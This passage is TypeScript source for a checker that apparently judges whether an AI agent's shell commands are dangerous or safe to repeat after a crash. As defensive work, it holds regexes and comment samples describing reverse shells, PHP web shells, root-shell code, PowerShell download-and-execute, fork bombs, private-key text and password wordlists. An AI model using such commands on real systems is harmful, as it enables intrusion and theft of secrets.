// The dangerous-command checker and the "safe to repeat" classification the ledger uses after a
// crash (principle 3, docs/architecture.md). Both err on the careful side: anything not understood
// is not repeatable, and a command that cannot be parsed is reported.
//
// The engine here walks the parsed text (shell-lex.ts): nested substitutions, redirections,
// wrappers (programs/shells.ts), what runs code fed by a download, and the constructs it cannot see
// through; then it looks the program up in the rule tables, one per family (programs/*.ts), the
// shape of Codex's command_safety. A program in no table is repeatable only if safe-commands.ts
// names it.
import path from 'node:path';
import { readableInlineCode } from './inline-code.js';
import { bindLoop, loopBinding, loopReference, withLoopValues } from './loop-values.js';
import { parseShell, ShellParseError, type Pipeline, type Redirect, type SimpleCommand, type Word } from './shell-lex.js';
import { isReadOnly } from './safe-commands.js';
import {
  base,
  checkWriteTarget,
  classify,
  TEMP_DIRS,
  danger,
  GIT_CODE_PATH,
  GIT_CODE_REASON,
  hasFlag,
  MAKE_VARIABLE,
  namesThisMachine,
  nestsOnlyVariable,
  onlyAsksAbout,
  ownServiceSocket,
  optionValue,
  operands,
  PATH_WORDS,
  SETS_CONVENTIONAL_VARIABLE,
  SETS_HOME,
  SETS_VERSION_VARIABLE,
  VERSION_VARIABLE,
  TOOLCHAIN_VARIABLES,
  type Rule,
  type RuleTable,
  THIS_MACHINE_ADDRESS,
  type State,
  word,
  workspaceVariablePath,
} from './state.js';
import { ARGUMENT_JUDGED, BUILD_TOOL_RULES, buildOutsideWorkspace, outwardTarget } from './programs/build-tools.js';
import { CLOUD_RULES } from './programs/cloud.js';
import { FILE_RULES } from './programs/files.js';
import { GIT_RULES } from './programs/git.js';
import { INLINE_CODE, inlineOption, interpreterOwnArgs, INTERPRETERS, INTERPRETER_RULES, SCRIPT_SENDS } from './programs/interpreters.js';
import {
  decodedUrl,
  DOWNLOADERS,
  HOST_LAUNCHING_WRAPPERS,
  launchesOnHosts,
  loopbackWebShellCommand,
  NETWORK_RULES,
  WEB_CLIENT,
  webExploitUrl,
} from './programs/network.js';
import { dryRun, PACKAGE_RULES } from './programs/packages.js';
import { isWrapperName, SHELLS, unwrap, type Stripped } from './programs/shells.js';
import { SYSTEM_RULES, watcherKilledThroughPipe } from './programs/system.js';
import { MACOS_RULES } from './programs/macos.js';
import { MACOS_TOOL_RULES } from './programs/macos-tools.js';
import { HOMEBREW_RULES } from './programs/homebrew.js';
import { APPLE_DEV_RULES } from './programs/apple-dev.js';
import { BACKUP_RULES } from './programs/backups.js';
import { BOARD_RULES } from './programs/boards.js';
import { BUS_RULES } from './programs/buses.js';
import { CHAIN_RULES } from './programs/chains.js';
import {
  CODE_LOADING_VARIABLES,
  COMMAND_VARIABLES,
  FOUND,
  containerImageIndex,
  executorReadsOption,
  handoffPayloads,
  hasExecutor,
  payloadsOf,
  type Payload,
} from './programs/executors.js';
import { gitPayloads, gitSettingPayloads } from './programs/git.js';
import {
  addressGiven,
  aimedOnlyAtThisMachine,
  bareHostGiven,
  EXEC_OPTION,
  hostListGiven,
  implantRun,
  isRemoteTool,
  judgeUnknownProgram,
  otherMachineAddress,
  remoteToolRun,
  scriptGivenSite,
  serverNamed,
  signsInOrTargets,
  TARGET_LIST_FILE,
  targetHostUrl,
} from './programs/unknown.js';
import { isUserTool, judgeProgramPlace, judgeScriptPlace, setsUpLoginEnvironment } from './programs/places.js';
import { powershellStatement, WINDOWS_RULES } from './programs/windows.js';
import { CONTAINER_RUNTIMES, indexSetting, persistencePlaceArgument, trustChecks } from './programs/trust.js';
import { attackToolChecks, knownByName, operatorChecks } from './programs/operators.js';
import {
  CREDENTIAL_FAMILY_FILTER,
  CREDENTIAL_FILTER,
  expandedCredentials,
  holdsLiteralCredential,
  namesHomePath,
  namesSecretPlace,
  printsCredential,
  TEXT_SEARCHERS,
} from './secrets.js';

export interface CommandCheck {
  dangerous: boolean;
  reasons: string[];
  repeatable: boolean;
}

export interface CheckOptions {
  /**
   * What a program no table names gets. `judge` (the default): judged by what its arguments point
   * at (programs/unknown.ts), enough where the sandbox hides the host. `ask`: it needs a person, for
   * commands that run unsandboxed, where nothing else stands between it and the host.
   */
  unknownPrograms?: 'judge' | 'ask';
}

const FAMILIES: readonly RuleTable[] = [
  FILE_RULES,
  GIT_RULES,
  PACKAGE_RULES,
  BUILD_TOOL_RULES,
  INTERPRETER_RULES,
  NETWORK_RULES,
  SYSTEM_RULES,
  MACOS_RULES,
  MACOS_TOOL_RULES,
  HOMEBREW_RULES,
  APPLE_DEV_RULES,
  CLOUD_RULES,
  WINDOWS_RULES,
  BOARD_RULES,
  BUS_RULES,
  CHAIN_RULES,
  BACKUP_RULES,
];
const RULES = new Map<string, Rule>();
for (const f of FAMILIES) {
  for (const [prog, rule] of Object.entries(f.programs)) {
    if (RULES.has(prog)) throw new Error(`command-safety: ${prog} has rules in two families`);
    RULES.set(prog, rule);
  }
}
const PATTERNS = FAMILIES.flatMap((f) => f.patterns ?? []);

/** Why a program no table names needs a person where commands run unsandboxed (`unknownPrograms: 'ask'`). */
const unknownProgramReason = (prog: string) =>
  `runs ${prog}, which the checker does not know, outside the sandbox: a person must approve it (in the sandbox it would be judged by its arguments)`;

/**
 * Words the shell answers itself, changing or printing only its own state (its variables, its loop,
 * its exit, its background jobs and directory stack): no program is started, so no program is unknown.
 */
const SHELL_STATE_BUILTINS = new Set([
  'exit',
  'return',
  'shift',
  'break',
  'continue',
  'local',
  'read',
  'let',
  'declare',
  'typeset',
  'readonly',
  'getopts',
  'jobs',
  'dirs',
  'times',
]);

/** A program no family names: it changes something unless it only reads. */
const unknownProgram: Rule = ({ prog, args, st }) => judgeUnknown(prog, args, st, false);

/**
 * A script run by its path (`./ci/check.sh`, `./scripts/docs.py`), which judgeProgramPlace has found
 * in the workspace: the workspace's own code, known as `bash ci/check.sh` and `python scripts/docs.py`
 * are (judgeScriptPlace). Autoconf's `configure` is a shell script by its making, whatever its name lacks.
 * Any other program by a path into a directory of the workspace (`"scripts/build"`, `./target/debug/test-mem`,
 * `CommandLineTool/swiftformat`) is the project's own script or build too, judged by its arguments; one
 * straight in the working directory (`./bof`, `./pspy64`) is what a download or a one-off compile leaves there.
 */
const WORKSPACE_SCRIPT = /\.(sh|bash|py|rb|pl)$|^configure$/;
const inProjectTree = (w: Word, st: State) => w.text.replace(/^(\.\/)+/, '').includes('/') && classify(w, st).cls === 'inside';

function judgeUnknown(prog: string, args: Word[], st: State, workspaceScript: boolean): void {
  // The shell's own builtins take names, not places or hosts (`read -p "ip: " IP`).
  if (isReadOnly(prog) || SHELL_STATE_BUILTINS.has(prog)) return;
  const found = st.reasons.length;
  // Its command options are read where its hand-offs are (handoffPayloads), for a program no executor entry
  // names, or by the executor entry that names them (`nix-shell --command`).
  const optionsRead = !runsCode(prog) && (!hasExecutor(prog) || args.every((a) => !EXEC_OPTION.test(a.text) || executorReadsOption(prog, a.text)));
  judgeUnknownProgram(prog, args, st, optionsRead);
  // Its own reason, when its arguments gave one, says more than that it is unknown. Shells and
  // interpreters are known: their inline code and scripts are judged where they are run (flagOpaque,
  // judgeScriptPlace); so are the attack and remote tools the name rules judge whatever their arguments.
  const namedByRule = knownByName(prog) || isRemoteTool(prog);
  if (
    st.askUnknown &&
    st.reasons.length === found &&
    !runsCode(prog) &&
    !SHELL_STATE_BUILTINS.has(prog) &&
    !workspaceScript &&
    !namedByRule &&
    st.projectScript !== prog
  )
    danger(st, unknownProgramReason(prog));
}

/** A reverse shell's text: an interactive shell joined to a socket, a descriptor opened on one, a fifo piped through nc, or nc told to run a shell. */
const REVERSE_SHELL_TEXT =
  /\bexec\s+\d+<>\/dev\/(tcp|udp)\/|\b(ba)?sh\s+-i\b[^'"]*?(>&|&>|0<&|\|\s*(nc|ncat|netcat)\s)|\/dev\/(tcp|udp)\/[^/\s]+\/\d+\s+0>&1|\bmkfifo\b[^'"]*\|\s*(nc|ncat|netcat)\s|\b(nc|ncat|netcat)\b[^|;'"]*\s-e\s*\/bin\/(ba)?sh\b/;
/** Code that makes itself root and starts a shell (`setuid(0); system("/bin/bash")`): a set-user-ID or preloaded library's payload. */
const ROOT_SHELL_CODE = /\bset(res|e)?[ug]id\s*\(\s*0\b[^'"]*?\b(system|exec[lv]p?e?)\s*\(/;
/** A PEM private key, written out (`-----BEGIN RSA PRIVATE KEY-----` and its body) or base64-encoded whole. */
const PRIVATE_KEY_TEXT =
  /-----BEGIN (RSA |EC |DSA |OPENSSH |ENCRYPTED )?PRIVATE KEY-----\s*\S{20}|LS0tLS1CRUdJTiB(QUklWQVRFIEtFWS0t|SU0EgUFJJVkFURSBLRVkt|FQyBQUklWQVRFIEtFWS0t|PUEVOU1NIIFBSSVZBVEUgS0VZLS0t)/;

/** PHP code that runs a command (`<?php system($_GET['c']); ?>`): a web shell once written where a server serves it. */
const PHP_COMMAND_CODE = /<\?php[^?]*\b(system|shell_exec|passthru|exec|popen|proc_open)\s*\(/i;
/** A word's URL-decoded text, when it holds any escape. */
const urlDecoded = (text: string): string | undefined => (/%[0-9A-Fa-f]{2}/.test(text) ? decodedUrl(text) : undefined);

const DISGUISED_AS_DATA = /\.(jpe?g|png|gif|bmp|ico|webp|pdf|docx?|xlsx?|pptx?|mp[34]|wav)$/i;

const ATTACK_WORDLIST = /(^|[/=])(rockyou[\w.-]*|usr\/share\/(wordlists|seclists)\/\S*|seclists\/\S+)$/i;

/** Windows Script Host, which runs the JScript or VBScript file it is given; its own switches start with `//`. */
const WINDOWS_SCRIPT_HOST = /^[cw]script(\.exe)?$/i;

/**
 * The name a table knows a program by: a Windows program named with its `.exe` (`ssh.exe`, `curl.exe`)
 * or from the current directory (`.\mimikatz`, which the shell reads as `.mimikatz`) is the one named
 * without them, an interpreter named with its minor version (`python3.10`) the interpreter, and Windows'
 * windowless Python (`pythonw`) and its launcher (`py`) Python.
 */
function tableName(written: string, named: string): string {
  const prog = !written.includes('/') && /^\.[A-Za-z]/.test(named) ? named.slice(1) : named;
  const plain = prog.replace(/\.exe$/i, '').toLowerCase();
  if (plain === 'pythonw' || (plain === 'py' && !RULES.has('py'))) return 'python';
  if (plain !== prog.toLowerCase() && !RULES.has(prog) && RULES.has(plain)) return plain;
  const versioned = /^(python[23]|ruby|perl|php|lua)(\.?\d+)*\.\d+$/.exec(prog);
  return versioned && !RULES.has(prog) ? versioned[1]! : prog;
}

/**
 * A program named in other capitals (`PowerShell`, `Bash`, `SUDO`) is that program: Windows and macOS'
 * default file system find it whatever the case. A name some table knows as written stays as written, and
 * X's servers (`Xvfb`, `Xephyr`) are named so.
 */
function caseFolded(w: Word): Word {
  // A batch file's `@echo` is echo, kept from being echoed itself.
  if (/^@echo$/i.test(w.text)) return { ...w, text: 'echo' };
  const name = base(w);
  const lower = name.toLowerCase();
  if (w.expands || lower === name || !w.text.endsWith(name) || RULES.has(name) || isWrapperName(name) || /^X[a-z]+$/.test(name)) return w;
  if (!(RULES.has(lower) || SHELLS.has(lower) || isWrapperName(lower))) return w;
  return { ...w, text: w.text.slice(0, w.text.length - name.length) + lower };
}

function ruleFor(prog: string): Rule {
  return RULES.get(prog) ?? PATTERNS.find(([re]) => re.test(prog))?.[1] ?? unknownProgram;
}

const DATA_PLACE_VARIABLE = /(^|_)(DATA|STATE|LOG|LOGS|STORAGE|DB|DATABASE)_?(PATH|DIR|DIRECTORY|ROOT|HOME)$/i;
const SYSTEM_DATA_DIR = /^\/(var\/(lib|log|db|opt|spool|cache)|etc|usr|opt|srv)(\/|$)/;

/** PowerShell's Invoke-Expression given what a download returns (pwsh runs on Linux and macOS too). */
const PS_DOWNLOAD_RUN =
  /\b(iex|invoke-expression)\b[\s\S]*\b(downloadstring|downloadfile|iwr|irm|invoke-webrequest|invoke-restmethod|net\.webclient)\b|\b(iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|]*\|\s*(iex|invoke-expression)\b/i;
const FORK_BOMB = [
  /:\s*\(\s*\)\s*\{[^}]*:\s*\|\s*:\s*&/,
  /\b(\w+)\s*\(\s*\)\s*\{[^}]*\b\1\s*\|\s*\1\s*&/,
  /\bfork\s*\(\s*\)\s*while|while\s*\(?\s*1?\s*\)?\s*;?\s*do\s+fork/,
];
/** A word that assigns a shell variable (`NAME=value`), not a command. */
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=/;
const KEYWORDS = ['if', 'then', 'else', 'elif', 'do', '!', '{', '}', 'fi', 'done', 'esac', 'while', 'until'];

/** The approval reason for a file tool (write_to_file, replace_in_file) writing such a file. */
export function gitCodeFileReason(file: string): string | undefined {
  return GIT_CODE_PATH.test(path.posix.normalize(file)) ? `writes ${file}, ${GIT_CODE_REASON}` : undefined;
}

/**
 * GNU make's functions, as a recipe line reaches the bench or a person copies it (`$(if $(CI),--report-log x,)`,
 * `$(subst /,_,$@)`, `$(wildcard *.c)`): make expands them into the line before any shell reads it, so they are
 * text, not a command. Those that share a name with a common program (`basename`, `sort`, `realpath`, `strip`)
 * take several arguments here, so only a comma marks them; shell's own `if` always has a `then`.
 */
const MAKE_FUNCTION =
  /^(if|or|and|foreach|call|subst|patsubst|filter|filter-out|findstring|word|wordlist|addsuffix|addprefix)\s[^\n]*,|^(wildcard|notdir|words|firstword|lastword|suffix|abspath|origin|flavor|value)\s/;
/** A make function's arguments, split at its top-level commas. */
function makeArguments(text: string): string[] {
  const args: string[] = [];
  let depth = 0;
  let start = text.search(/\s/) + 1;
  for (let k = start; k < text.length; k++) {
    const c = text[k];
    if (c === '(' || c === '{') depth++;
    else if (c === ')' || c === '}') depth--;
    else if (c === ',' && depth === 0) {
      args.push(text.slice(start, k));
      start = k + 1;
    }
  }
  args.push(text.slice(start));
  return args;
}
/** The `$(…)` substitutions written inside a text, outermost first. */
function substitutionsIn(text: string): string[] {
  const found: string[] = [];
  for (let k = text.indexOf('$('); k >= 0; k = text.indexOf('$(', k + 1)) {
    let depth = 0;
    let end = k + 1;
    for (; end < text.length; end++) {
      if (text[end] === '(') depth++;
      else if (text[end] === ')' && --depth === 0) break;
    }
    found.push(text.slice(k + 2, end));
    k = end;
  }
  return found;
}
/**
 * A make function's text judged for what the shell will run of it: make's `$(shell …)` is a command; an
 * argument that holds a shell operator (`$(foreach d,$(DIRS),make -C $(d);)`) is spliced into the line as
 * commands; any other argument is words, whose own substitutions are judged as usual.
 */
function analyzeMakeFunction(src: string, st: State, payload: boolean | undefined): void {
  for (const argument of makeArguments(src)) {
    const inner = substitutionsIn(argument);
    const bare = inner.reduce((text, s) => text.replace(`$(${s})`, ''), argument);
    if (/[;&|`\n]/.test(bare)) analyzeNested(argument, st, payload);
    else for (const s of inner) analyzeSubstitution(s, st, payload);
  }
}

/** A word's command substitution (`$(…)`), or make's function or `$(shell …)` written the same way. */
function analyzeSubstitution(src: string, st: State, payload = st.payload): void {
  const text = src.trim();
  if (!/\bthen\b/.test(text) && MAKE_FUNCTION.test(text)) return analyzeMakeFunction(text, st, payload);
  const makeShell = /^shell\s+([^]*)$/.exec(text);
  analyzeNested(makeShell ? makeShell[1]! : src, st, payload);
}

function analyzeNested(src: string, st: State, payload = st.payload): void {
  const sub = analyzeText(src, st.ws, st.cwd, st.depth + 1, { ...st, payload });
  for (const r of sub.reasons) danger(st, r);
  if (!sub.repeatable) st.repeatable = false;
  if (sub.downloads) st.downloads = true;
}

function checkRedirects(redirects: Redirect[], st: State, prog: string): void {
  for (const r of redirects) {
    for (const n of r.target.nested) analyzeSubstitution(n, st);
    // A socket of this machine's own test service (`echo > /dev/tcp/127.0.0.1/5555`, a CI wait) stays here, unless its port is
    // the worker's infrastructure's; a shell that reads its commands from or writes them to one is judged as a shell.
    if (/^\/dev\/(tcp|udp)\//.test(r.target.text) && (SHELLS.has(prog) || !ownServiceSocket(r.target.text)))
      danger(st, `connects to the network through the shell (${r.target.text})`);
    if (r.op === '<' || r.op === '<&' || r.op === '<>') checkSecretWord(r.target, st, false);
    // A here-string's text is handed to the program as its input: a credential variable in it is read.
    if (r.op === '<<<') for (const name of expandedCredentials(r.target)) danger(st, `reads the credential variable ${name}`);
    const ciSecret = r.op === '<<<' ? CI_SECRET.exec(r.target.text) : null;
    if (ciSecret) danger(st, `hands a CI secret to the command on its input (${ciSecret[0]})`);
    if (r.op === '<' || r.op === '<<' || r.op === '<<-' || r.op === '<<<' || r.op === '<&') continue;
    if (r.op === '>>' || r.op === '&>>') st.repeatable = false;
    if (r.op === '>&' && /^\d+$/.test(r.target.text)) continue;
    checkWriteTarget(r.target, st, 'writes to');
  }
}

const runsCode = (prog: string) =>
  SHELLS.has(prog) || INTERPRETERS.has(prog) || prog === 'osascript' || /^(pwsh|powershell)(\.exe)?$/i.test(prog) || prog === 'source' || prog === '.';

/** AppleScript that is only `do shell script "…"` with a literal command: that command is what runs. */
const APPLESCRIPT_SHELL = /^\s*do\s+shell\s+script\s+"([^"\\]*)"\s*$/;

/** Inline code the checker reads after all: an idiom of inline-code.ts, or AppleScript that only runs a literal shell command (judged as one). */
function readableCode(prog: string, flag: string, code: string, st: State): boolean {
  const shell = prog === 'osascript' && flag === '-e' ? APPLESCRIPT_SHELL.exec(code)?.[1] : undefined;
  if (shell === undefined) return readableInlineCode(prog, flag, code);
  analyzeNested(shell, st, true);
  return true;
}

/** socat's address as the host it names (`TCP:127.0.0.1:55555` → `127.0.0.1`), so a loopback one reads as this machine. */
const hostOfSocatAddress = (w: Word): Word => {
  const m = /^(?:tcp|tcp4|tcp6|udp|udp4|udp6|openssl|ssl)(?:-connect)?:([^:,]+)/i.exec(w.text);
  return m ? { ...w, text: m[1]! } : w;
};

/** Lines of ftp, sftp or tftp that send a file to the other host. */
const TRANSFER_SENDS = /^\s*(put|mput|send|append|reput)\b/m;

/** An interpreter's options that load a library before its code (`ruby -r LIB`, `node --require=LIB`, `node --import LIB`). */
const PRELOAD = /^(-r|--require|--import|--loader|--experimental-loader)(?:=(.*))?$|^-r(.+)$/;

/** A library preloaded by a path outside the workspace is code from there (`ruby -r /tmp/x.rb -e 'exit 0'`). */
function checkPreloads(prog: string, args: Word[], st: State): void {
  for (const [k, a] of args.entries()) {
    const m = PRELOAD.exec(a.text);
    const value = m ? (m[2] ?? m[3] ?? args[k + 1]?.text) : undefined;
    if (value === undefined || !value.includes('/')) continue;
    const c = classify(word(value), st);
    if (c.cls !== 'inside') danger(st, `loads code from ${PATH_WORDS[c.cls]} into ${prog} (${(m?.[2] ?? m?.[3]) ? a.text : `${a.text} ${value}`})`);
  }
}

/**
 * Inline code as the interpreter receives it when the shell expands nothing into it but version
 * variables (`perl -pi -e 's/^requires-python =.*$/requires-python = "~='"${PYTHON_VERSION}"'"/'`) and
 * dates (`$(date +%Y)`): a version number or a year stands for each. A positional parameter (`"s/(x)/\$1/"`)
 * is empty in the `bash -c` that runs the command, or the `$1` the interpreter reads when escaped: either
 * way no code the shell put there. Any other expansion, a command substitution, or a command that sets
 * such a variable itself (it may hold code) leaves the code unknown until it runs (undefined).
 */
const DATE_PRINTED = /\$\(date( -u)?( \+[%\w:.-]+)?\)/g;
function withVersionsFilled(w: Word, st: State): string | undefined {
  if (!w.expands) return w.text;
  if (w.nested.length > (w.text.match(DATE_PRINTED)?.length ?? 0) || st.setsVersionVariable) return undefined;
  const filled = w.text.replace(DATE_PRINTED, '2026').replace(/\$\{?\w+\}?/g, (v) => (VERSION_VARIABLE.test(v) ? '1.0' : v));
  const positional = st.depth === 0 ? /\$(\d|\{\d+\})/g : /(?!)/g;
  return /\$[{\w]/.test(filled.replace(positional, '')) ? undefined : filled;
}

/**
 * Version managers and toolchains that print shell code setting their environment (variables, PATH,
 * a hook function), meant to be evaluated: `eval "$(opam env)"`, `` eval `opam config env` ``, `eval
 * "$(fnm env --use-on-cd)"`, `eval "$(pyenv init -)"`, `eval "$(/opt/homebrew/bin/brew shellenv)"`;
 * and minikube's, which points this shell's docker client at the cluster's daemon (`eval $(minikube docker-env)`).
 */
const ENVIRONMENT_PRINTER =
  /^\s*(opam (config )?env|fnm env|(pyenv|rbenv|nodenv|goenv|jenv|plenv) init|(\/(opt\/homebrew|usr\/local|home\/linuxbrew\/\.linuxbrew)\/bin\/)?brew shellenv|ssh-agent|mise activate|direnv hook|zoxide init|starship init|minikube (docker|podman)-env|docker-machine env)( -{1,2}[\w-]+(=[\w.-]+)?| [a-z]+| -)*\s*$/;

/**
 * A program's completion script, printed for the shell to load (`source <(kubectl completion bash)`,
 * `eval "$(gh completion -s zsh)"`, `. <(bazelisk completion bash)`, `source <(stern --completion=bash)`): functions that complete its
 * words, by what the command says it prints (`docker-ls autocomplete bash`). The printer itself is judged as any command is.
 */
const COMPLETION_PRINTER =
  /^\s*[\w./-]+( [a-z][\w-]*)? ((completions?|autocomplete|shell-completion|generate-shell-completion)|--(completions?|autocomplete|gen-completions?(-out)?|generate-shell-completion|(bash|zsh|fish)-completion|completion[-_]script)(=(bash|zsh|fish))?)( -{1,2}[\w-]+(=[\w.-]+)?| (bash|zsh|fish))*\s*$/;
const printsCompletion = (w: Word) => w.nested.length === 1 && COMPLETION_PRINTER.test(w.nested[0]!);

/** The printer's command when eval's only argument is its output (`$(opam env)`, `` `opam config env` ``), else undefined. */
function environmentPrinted(args: Word[]): string | undefined {
  const only = args.length === 1 ? args[0]! : undefined;
  const m = only ? /^(?:\$\((.*)\)|`(.*)`)$/s.exec(only.text) : null;
  const printer = m ? (m[1] ?? m[2]) : undefined;
  return printer !== undefined && only!.nested.length === 1 && (ENVIRONMENT_PRINTER.test(printer) || COMPLETION_PRINTER.test(printer)) ? printer : undefined;
}

/**
 * Constructs the checker cannot see through, whatever the program, each needing approval under
 * `--approval dangerous`: inline interpreter code, eval of expanded text, scripts from process
 * substitutions, code run after a download, arguments fed by xargs, and secret places.
 */
function flagOpaque(prog: string, args: Word[], st: State, runAs: string): void {
  const inline = Object.hasOwn(INLINE_CODE, prog) ? INLINE_CODE[prog] : undefined;
  if (INTERPRETERS.has(prog)) checkPreloads(prog, args, st);
  const readable = (k: number) => {
    const code = args[k + 1] && withVersionsFilled(args[k + 1]!, st);
    return code !== undefined && readableCode(prog, args[k]!.text, code, st);
  };
  if (inline && interpreterOwnArgs(prog, args).some((a, k) => inline.test(a.text) && !readable(k)))
    danger(st, `runs inline ${prog} code, which the checker cannot read`);
  if (prog === 'eval' && args.some((a) => a.expands) && !environmentPrinted(args)) danger(st, 'evaluates text built at run time (eval)');
  if (runsCode(prog) && args.some((a) => a.procSub && !printsCompletion(a))) danger(st, `runs a script produced by a process substitution (${prog} <(…))`);
  // awk's and sed's program read from a process substitution (`gawk -f <(curl -Ls https://git.io/translate)`) is a script too.
  if (/^([gmn]?awk|g?sed)$/.test(prog) && args.some((a, k) => a.procSub && /^(-f|--file)$/.test(args[k - 1]?.text ?? '')))
    danger(st, `runs a program produced by a process substitution (${prog} -f <(…))`);
  // A program run by a relative path after a download (`./rebar3`) may be what it fetched; making the
  // download executable (`chmod +x rebar3`) is not running it, and Python's JSON printer
  // (`curl … | python3 -m json.tool`) runs its own module on the downloaded text.
  const printsJson =
    /^python[23]?(\.\d+)?$/.test(prog) && args.some((a, k) => a.text === '-mjson.tool' || (a.text === '-m' && args[k + 1]?.text === 'json.tool'));
  // A jar run after a download (`wget …/tool.jar && java -jar tool.jar`) is the download's code.
  const runsJar = prog === 'java' && args.some((a) => a.text === '-jar');
  if (st.downloads && (runsCode(prog) || runsJar || /^\.?\.?\//.test(runAs)) && !printsJson) danger(st, `runs code after downloading (${prog})`);
  // xargs adds words from its input: harmless to a command that is safe with any file names, not to
  // one that runs them as code or deletes or rewrites recursively whatever they name.
  if (
    st.xargs &&
    ((runsCode(prog) && (!hasInlineCode(prog, args) || inlineCodeFromInput(prog, args))) ||
      (/^(rm|shred|chmod|chown|chgrp|rmdir)$/.test(prog) && hasFlag(args, prog === 'rm' ? 'r' : 'R', ['--recursive'])) ||
      (/^(rm|shred)$/.test(prog) && hasFlag(args, 'R')))
  )
    danger(st, `gives ${prog} arguments from its input through xargs, unseen by the checker`);
  for (const a of args)
    if (!isReadOnly(prog) && classify(a, st).cls === 'home' && !((prog === '.' || prog === 'source') && setsUpLoginEnvironment(a.text)))
      danger(st, `touches the home directory (${a.text})`);
}

/** Programs that print the names and metadata of files, never their contents. */
const LISTS_NAMES = /^(ls|dir|vdir|stat|du|tree)$/;
/** find's actions that do more than print names (run, delete, print contents or write). */
const FIND_ACTS = /^-(exec|execdir|ok|okdir|delete|fprint\w*|fls)$/;
/**
 * A process's open files (`/proc/<pid>/fd`): listed, they show which files it holds open and where the
 * links point, names only; read through, they are the files themselves.
 */
const PROCESS_FDS = /^\/proc\/[^/\s]+\/fd\/?$/;
/** The mail spool: listed, it shows whose mailboxes exist and their sizes, names only; read, the mail itself. */
const MAIL_SPOOL = /^\/var\/(spool\/)?mail(\/[^/\s]*)?$/;
/**
 * A secret place named without a wildcard (`ls -l /etc/shadow`, `stat ~/.aws/credentials`): listed,
 * its mode, owner and size, or its entries' names, never what they hold. A wildcard (every
 * process's environ file, by a glob over /proc) lists the secret files themselves, for what comes next to read.
 */
const LISTED_BY_NAME = /^[^*?[]+$/;
/** A database server's data directory: listed, its databases' and files' names and sizes; read, every row and the password hashes. */
const DATABASE_DIRECTORY = /^\/var\/lib\/(mysql|mariadb|postgresql|pgsql)(\/[^/\s]*)?\/?$/;

/**
 * A disk or partition by its device (`/dev/sda5`, `/dev/nvme0n1p2`, macOS' `/dev/rdisk2`, a mapper's
 * volume): read raw it holds every file on it, deleted ones, swap and other users' too; written, it loses them.
 */
const DISK_DEVICE =
  /^\/dev\/(sd[a-z]+\d*|hd[a-z]\d*|vd[a-z]\d*|xvd[a-z]\d*|nvme\d+n\d+(p\d+)?|mmcblk\d+(p\d+)?|r?disk\d+(s\d+)*|mapper\/[\w.-]+|dm-\d+|md\d+)$/;
/**
 * A disk named by a variable or a placeholder (`of=$MY_DRIVE`, `shred -v ${DEVICE}`, `<DEV>` filled in as
 * `DEV`) given to a program that writes or formats a whole device: the wipe guides' way of writing the
 * disk to erase. Elsewhere `$DEV` may be a network interface's name, so only these programs read it so.
 */
const DISK_WRITERS = /^(dd|dcfldd|dc3dd|shred|wipefs|cryptsetup|blkdiscard|mkswap|badblocks|mkfs(\.\w+)?|mke2fs)$/;
const DISK_NAMED = /^(\$\{?(\w*_)?(drive|disk|dev|device|partition)(_\w*)?\}?|(\/dev\/)?([A-Z]+-)*(DRIVE|DISK|DEV|DEVICE|PARTITION)(-[A-Z]+)*)$/i;

/**
 * Programs that print a disk's size, use, labels or health, never its contents, and the partitioning
 * tools whose own rules tell their listing from their writing (`fdisk -l`, `diskutil list`).
 */
const DISK_METADATA = /^(df|lsblk|blkid|findmnt|ls|stat|du|smartctl|udevadm|diskutil|fdisk|sfdisk|gdisk|sgdisk|cfdisk|parted)$/;

/**
 * A sentence given as one word (`warn "API keys are stored in ~/.config/tool/config.json"`): a message that
 * names a place, not a path opened. It starts with a capital, its first word has no slash, two more follow,
 * and nothing in it is shell (`"cat /etc/shadow > /tmp/x"` handed to a script is a command).
 */
const PROSE = /^[A-Z][\w,'-]*(\s+[^\s<>|;&$`]+){2,}\s*$/;

/**
 * A word that names a secret place, another home, or expands a credential variable. Listing the
 * names in another home (`ls -la /root/`) reads no file there; its secret places stay secret.
 */
function checkSecretWord(w: Word, st: State, listsNames: boolean, isSearchPattern = false, onlyVariables = false): void {
  // A search's pattern without a slash (`grep -i shadow`) is text looked for, not a file opened.
  if (
    !onlyVariables &&
    !(isSearchPattern && !w.text.includes('/')) &&
    !PROSE.test(w.text) &&
    namesSecretPlace(w.text) &&
    !(listsNames && (LISTED_BY_NAME.test(w.text) || PROCESS_FDS.test(w.text) || MAIL_SPOOL.test(w.text) || DATABASE_DIRECTORY.test(w.text)))
  )
    return danger(st, `touches a place that holds secrets (${w.text})`);
  // A home in another machine's or a container's file system (`github-runner:/home/runner/.runner`, as docker cp
  // and scp name it, or a mount's side in the container, `-v "$KEY_PATH":/home/app/.adept`) is not this machine's;
  // the copy or the mount itself is judged by its program.
  if (
    !onlyVariables &&
    !listsNames &&
    namesHomePath(w.text.includes(':/') ? w.text.replace(/(^[A-Za-z][\w.-]*|[A-Za-z_"'}])(:\/(home|root)\b[^\s:'")]*)/g, '$1') : w.text) &&
    classify(w.text.replace(/^[^/]*/, ''), st).cls !== 'inside'
  )
    return danger(st, `touches another home directory (${w.text})`);
  // A credential variable in a search's pattern is what is looked for: grep prints the lines of the
  // files that hold it, which the files already held, and the value itself is neither printed nor sent.
  if (isSearchPattern) return;
  if (!onlyVariables && holdsLiteralCredential(w.text)) danger(st, 'writes out a credential in the command, which its history, logs and the process list keep');
  for (const name of expandedCredentials(w)) danger(st, `reads the credential variable ${name}`);
}

/**
 * The command that feeds a pipeline's end through filters that only keep, drop or reorder their input's
 * lines (`grep PATTERN`, `sort`, `uniq`, `head`, `tail`), each reading no file of its own.
 */
function throughLineFilters(prev: SimpleCommand[]): SimpleCommand {
  let k = prev.length - 1;
  const filters = (c: SimpleCommand) => {
    const words = withoutKeywords(c.words);
    const prog = base(words[0]);
    const ops = operands(words.slice(1), /^-(e|m|A|B|C|n|c|k|t)$/);
    if (/^(e|f)?grep$/.test(prog)) return ops.length === 1 && !words.some((w) => /^-[a-zA-Z]*[rRf]|^--(recursive|file)/.test(w.text));
    return /^(sort|uniq|head|tail)$/.test(prog) && ops.length === 0;
  };
  while (k > 0 && filters(prev[k]!)) k--;
  return prev[k]!;
}

/** Where a find that only prints names starts its search (`.` when it names none); undefined for any other command. */
function findStarts(feeder: SimpleCommand): Word[] | undefined {
  const words = withoutKeywords(feeder.words);
  if (base(words[0]) !== 'find' || words.some((w) => /^-(L|follow)$/.test(w.text) || FIND_ACTS.test(w.text))) return undefined;
  let k = 1;
